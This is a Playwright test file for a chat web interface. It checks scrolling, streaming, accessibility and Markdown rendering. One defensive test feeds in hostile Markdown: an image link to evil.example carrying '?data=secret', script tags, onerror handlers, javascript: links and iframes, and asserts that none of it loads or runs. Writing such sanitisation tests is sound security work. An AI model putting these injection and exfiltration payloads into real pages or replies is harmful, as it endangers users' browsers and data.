import { expect } from 'bun:test'
import type { Page } from 'playwright-core'
import { answer, end, say } from '../support/talking.ts'
import {
  addChat,
  addLongChat,
  field,
  inHalves,
  letTalk,
  sendButton,
  stopButton,
  tell,
} from './support/chats.ts'
import { stopClock } from './support/clock.ts'
import { expectPresentable, looks } from './support/looks.ts'
import { addPosts } from './support/posts.ts'
import { pageTest } from './support/scene.ts'
import { expectSoon } from './support/soon.ts'

/** How far the end of the page is below what is seen. */
const belowOf = (tab: Page) =>
  tab.evaluate(() => Math.round(document.documentElement.scrollHeight - window.innerHeight - window.scrollY))

const scrollOf = (tab: Page) => tab.evaluate(() => Math.round(window.scrollY))

/** A reply that comes part by part, each when it is let go. */
function inParts(...parts: string[]) {
  const gates = parts.map(() => Promise.withResolvers<void>())
  async function* script() {
    for (const [index, part] of parts.entries()) {
      yield* say(part)
      await gates[index]?.promise
    }
    yield* end()
  }
  return { script, letGo: (index: number) => gates[index]?.resolve() }
}

pageTest('the page follows the end unless the reader scrolled up, who can jump back', async (scene) => {
  const long = Array.from({ length: 40 }, (_, line) => `Line ${line} of it.`).join('\n\n')
  const { script, letGo } = inParts(
    `It begins.\n\n${long}`,
    `\n\n${long}\n\nIn the middle.`,
    `\n\n${long}\n\nAt last.`,
  )
  using _model = letTalk(scene, () => script())
  const chatId = await addLongChat(scene, 30)
  const tab = await (await scene.visit()).open(`/chats/${chatId}`)
  await tab.getByText('Answer 29').waitFor()
  await expectSoon(() => belowOf(tab), 0)
  await tell(tab, 'Tell me more')
  await tab.getByRole('article').getByText('Line 39 of it.').waitFor()
  await expectSoon(() => belowOf(tab), 0)
  const jump = tab.getByRole('button', { name: 'Jump to newest' })
  expect(await jump.count()).toBe(0)
  await tab.evaluate(() => window.scrollTo(0, 300))
  await jump.waitFor()
  letGo(0)
  await tab.getByRole('article').getByText('In the middle.').waitFor()
  expect(await scrollOf(tab)).toBe(300)
  await expectPresentable(tab, 'chat read above')
  await jump.click()
  await expectSoon(() => belowOf(tab), 0)
  await jump.waitFor({ state: 'detached' })
  letGo(1)
  await tab.getByRole('article').getByText('At last.').waitFor()
  await expectSoon(() => belowOf(tab), 0)
  letGo(2)
})

pageTest('a section that is expanded at the end stays in place', async (scene) => {
  const input = Object.fromEntries(Array.from({ length: 30 }, (_, index) => [`field${index}`, index]))
  const chatId = await addChat(scene, {}, [
    {
      type: 'text',
      text: Array.from({ length: 40 }, (_, line) => `Line ${line}`).join('\n\n'),
      state: 'done',
    },
    { type: 'tool-list_posts', toolCallId: 'call-1', state: 'output-available', input, output: '{}' },
  ])
  const tab = await (await scene.visit()).open(`/chats/${chatId}`)
  await tab.getByText('Line 39', { exact: true }).waitFor()
  // A font that arrives late moves what is shown.
  await tab.evaluate(() => document.fonts.ready.then(() => {}))
  await expectSoon(() => belowOf(tab), 0)
  const before = await scrollOf(tab)
  // The browser's driver scrolls before it clicks, and differently each time that it tries again.
  await tab.getByText('List posts').evaluate((summary) => (summary as HTMLElement).click())
  await tab.getByText('field29').waitFor()
  expect(await scrollOf(tab)).toBe(before)
})

pageTest('another tab follows the stored part of a reply up to its end', async (scene) => {
  const { script, letGo } = inHalves('The first half. ', 'The second half.')
  using _model = letTalk(scene, () => script())
  const { ctx } = scene.herald
  const chatId = await addChat(scene)
  const visitor = await scene.visit()
  const tab = await visitor.open(`/chats/${chatId}`)
  await field(tab).waitFor()
  const other = await visitor.context.newPage()
  await other.goto(tab.url())
  await other.getByText('Boards leave as').waitFor()
  await tell(tab, 'Tell me more')
  await tab.getByRole('article').getByText('The first half.').waitFor()
  await other.clock.fastForward(10_000)
  await other.getByText('Herald is working.').waitFor()
  await other.getByText('Tell me more').waitFor()
  await stopButton(other).waitFor()
  expect(await sendButton(other).count()).toBe(0)
  ctx.clock.advance(1000)
  letGo()
  await other.clock.runFor(1000)
  await other.getByRole('article').getByText('The first half. The second half.').waitFor()
  await other.getByText('Herald is working.').waitFor({ state: 'detached' })
})

pageTest('incoming text is painted at most once per frame', async (scene) => {
  const gate = Promise.withResolvers<void>()
  async function* script() {
    yield* say('It **begins**. ')
    await gate.promise
    for (let word = 0; word < 2000; word++) yield* say(`word${word} `)
    yield* say('Over.')
    await new Promise(() => {})
  }
  using _model = letTalk(scene, () => script())
  const tab = await (await scene.visit()).open(`/chats/${await addChat(scene)}`)
  await tell(tab, 'Tell me more')
  await tab.locator('article strong', { hasText: 'begins' }).waitFor()
  await tab.evaluate(() => {
    const seen = { most: 0, all: 0 }
    let inFrame = 0
    const list = document.querySelector('.said-list') as Element
    new MutationObserver(() => {
      seen.all++
      seen.most = Math.max(seen.most, ++inFrame)
    }).observe(list, { subtree: true, childList: true, characterData: true })
    function begin() {
      inFrame = 0
      requestAnimationFrame(begin)
    }
    begin()
    Object.assign(window, { seen })
  })
  gate.resolve()
  await tab.getByRole('article').getByText('word1999 Over.').waitFor()
  const seen = await tab.evaluate(() => (window as unknown as { seen: { most: number; all: number } }).seen)
  expect(seen.most).toBe(1)
  expect(seen.all).toBeLessThan(2000)
  await tab.getByRole('button', { name: 'Stop' }).click()
  await sendButton(tab).waitFor()
})

pageTest('screen readers get whole sentences, and the interruption of a reply', async (scene) => {
  const { script, letGo } = inParts('It began. It goes', ' on, as of v1.4.2. And', ' ends')
  using _model = letTalk(scene, () => script())
  const tab = await (await scene.visit()).open(`/chats/${await addChat(scene)}`)
  await field(tab).waitFor()
  const spoken = () => tab.locator('[aria-live=polite] > p').allTextContents()
  await tell(tab, 'Tell me more')
  await tab.getByRole('article').getByText('It goes').waitFor()
  await expectSoon(spoken, ['It began.'])
  letGo(0)
  await tab.getByRole('article').getByText('And').waitFor()
  await expectSoon(spoken, ['It began.', 'It goes on, as of v1.4.2.'])
  letGo(1)
  await tab.getByRole('article').getByText('And ends').waitFor()
  expect(await spoken()).toEqual(['It began.', 'It goes on, as of v1.4.2.'])
  await tab.getByRole('button', { name: 'Stop' }).click()
  await expectSoon(spoken, ['It began.', 'It goes on, as of v1.4.2.', 'This answer was interrupted.'])
})

const hostile = [
  '![all your posts](https://evil.example/pixel.png?data=secret)',
  '[![nested](https://evil.example/two.png)](https://evil.example/go)',
  '<img src="https://evil.example/three.png" onerror="window.harmed = true"><script>window.harmed = true</script>',
  '[run](javascript:window.harmed=true) [page](data:text/html,harm) [home](//evil.example/path)',
  '<a href="javascript:window.harmed=true">letters</a> <iframe src="https://evil.example"></iframe>',
  'x'.repeat(20_000),
  `| ${'wide | '.repeat(60)}\n| ${'- | '.repeat(60)}\n| ${'cell | '.repeat(60)}`,
  `\`\`\`\n${'code '.repeat(400)}\n\`\`\``,
  '[link]: https://evil.example/definition.png',
  `${'> '.repeat(200)}deep`,
  Array.from({ length: 60 }, (_, depth) => `${'  '.repeat(depth)}- item`).join('\n'),
].join('\n\n')

pageTest('deeply nested quotations are shown as text', async (scene) => {
  const text = `${'> '.repeat(20_000)}deep`
  const tab = await (await scene.visit()).open(
    `/chats/${await addChat(scene, {}, [{ type: 'text', text, state: 'done' }])}`,
  )
  await tab.locator('.prose', { hasText: 'deep' }).waitFor()
  const levels = 10
  await expectSoon(() => tab.locator('.prose').textContent(), text.slice(levels * '> '.length))
})

pageTest('hostile Markdown loads nothing, runs nothing and keeps its lines', async (scene) => {
  const chatId = await addChat(scene, {}, [
    { type: 'reasoning', text: '<img src=x onerror="window.harmed = true">', state: 'done' },
    { type: 'text', text: hostile, state: 'done' },
    {
      type: 'tool-get_post',
      toolCallId: 'call-1',
      state: 'output-error',
      input: { postId: '<b>1</b>' },
      errorText: '<script>window.harmed = true</script>',
    },
  ])
  const tab = await (await scene.visit()).open(`/chats/${chatId}`)
  const reply = tab.getByRole('article', { name: '' }).last()
  await reply.getByText('all your posts').waitFor()
  await expectPresentable(tab, 'chat hostile')
  expect(await reply.locator('img, script, iframe, object, style, form').count()).toBe(0)
  const links = await reply
    .locator('a')
    .evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).href))
  expect([...new Set(links.map((href) => new URL(href).protocol))]).toEqual(['https:'])
  expect(await reply.getByText('(evil.example)').count()).toBe(links.length)
  await reply.getByText('<script>window.harmed = true</script>').first().waitFor()
  expect(await tab.evaluate(() => 'harmed' in window)).toBe(false)
})

pageTest('a reply of one megabyte is shown, and the chat continues', async (scene) => {
  using _model = letTalk(scene, answer('Shorter.'))
  const text = `${'many **words** in a row. '.repeat(40_000)}And the end.`
  const chatId = await addChat(scene, {}, [{ type: 'text', text, state: 'done' }])
  const tab = await (await scene.visit()).open(`/chats/${chatId}`)
  await tab.locator('article p').last().waitFor()
  await expectSoon(
    () =>
      tab
        .locator('article p')
        .last()
        .evaluate((p) => p.textContent?.endsWith('And the end.')),
    true,
  )
  await expectSoon(() => belowOf(tab), 0)
  await tell(tab, 'Shorter')
  await tab.locator('.prose', { hasText: 'Shorter.' }).waitFor()
  await expectSoon(() => belowOf(tab), 0)
})

pageTest('a chat of 500 messages opens at its end and scrolls to its beginning', async (scene) => {
  using _model = letTalk(scene, answer('One more.'))
  const tab = await (await scene.visit()).open(`/chats/${await addLongChat(scene, 500)}`)
  await tab.getByText('Answer 499').waitFor()
  await expectSoon(() => belowOf(tab), 0)
  expect(await tab.locator('.said-list > article').count()).toBe(500)
  await tell(tab, 'And now')
  await tab.getByRole('article').getByText('One more.').waitFor()
  await tab.evaluate(() => window.scrollTo(0, 0))
  await expectSoon(
    () => tab.getByText('Boards leave as').evaluate((p) => p.getBoundingClientRect().top > 0),
    true,
  )
  await tab.getByRole('button', { name: 'Jump to newest' }).click()
  await expectSoon(() => belowOf(tab), 0)
})

pageTest('created records are cards with links, and thoughts are collapsed', async (scene) => {
  const [postId = ''] = await addPosts(scene, [{ title: 'Acme 1.4' }])
  const chatId = await addChat(scene, {}, [
    { type: 'reasoning', text: 'First the releases.', state: 'done' },
    {
      type: 'tool-update_post',
      toolCallId: 'call-1',
      state: 'output-available',
      input: { postId },
      output: JSON.stringify({ post: { id: postId, title: 'Acme 1.4', status: 'draft' } }),
    },
  ])
  const tab = await (await scene.visit()).open(`/chats/${chatId}`)
  const thought = tab.getByText('First the releases.')
  await tab.getByText('Thoughts').waitFor()
  expect(await thought.isVisible()).toBe(false)
  await tab.getByText('Thoughts').click()
  await thought.waitFor({ state: 'visible' })
  await tab.getByRole('link', { name: 'Acme 1.4 Draft' }).click()
  await tab.getByRole('textbox', { name: 'Title' }).waitFor()
  expect(new URL(tab.url()).pathname).toEndWith(`/posts/${postId}`)
})

pageTest('a chat is copied as Markdown', async (scene) => {
  const chatId = await addChat(scene)
  const tab = await (await scene.visit()).open(`/chats/${chatId}`)
  const copy = tab.getByRole('button', { name: 'Copy as Markdown the chat' })
  await copy.waitFor()
  await stopClock(tab)
  await copy.click()
  await tab.getByText('Copied').waitFor()
  const text = await fetch(`${scene.herald.url}/v1/chats/${chatId}`, {
    headers: { authorization: `Bearer ${scene.team.key}`, accept: 'text/markdown' },
  }).then((response) => response.text())
  expect(await tab.evaluate(() => navigator.clipboard.readText())).toBe(text)
  expect(text).toContain('## Herald\n\nBoards leave as **PDF** now.')
})

pageTest('a code block of a known language is colored once it is complete', async (scene) => {
  const { script, letGo } = inParts(
    '```text\nlet it = 1\n```\n\n```js\nlet it = 1\n```\n\n',
    '```ts\nexport const size = 1 // Small',
    '\n```\n\nThat is all.',
  )
  using _model = letTalk(scene, () => script())
  const chatId = await addChat(scene)
  const tab = await (await scene.visit()).open(`/chats/${chatId}`)
  await tell(tab, 'Show me the code')
  const code = tab.locator('.code-box code')
  const colored = code.locator('span')
  await expectSoon(() => colored.allTextContents(), ['let', '1'])
  letGo(0)
  await code.getByText('export const size = 1 // Small').waitFor()
  expect(await colored.allTextContents()).toEqual(['let', '1'])
  letGo(1)
  await tab.getByRole('article').getByText('That is all.').waitFor()
  await expectSoon(() => colored.allTextContents(), ['let', '1', 'export', 'const', '1', '// Small'])
  const texts = ['let it = 1', 'let it = 1', 'export const size = 1 // Small']
  expect(await code.allTextContents()).toEqual(texts)
  letGo(2)
  await sendButton(tab).waitFor()
  await expectPresentable(tab, 'colored code', looks.each)
})
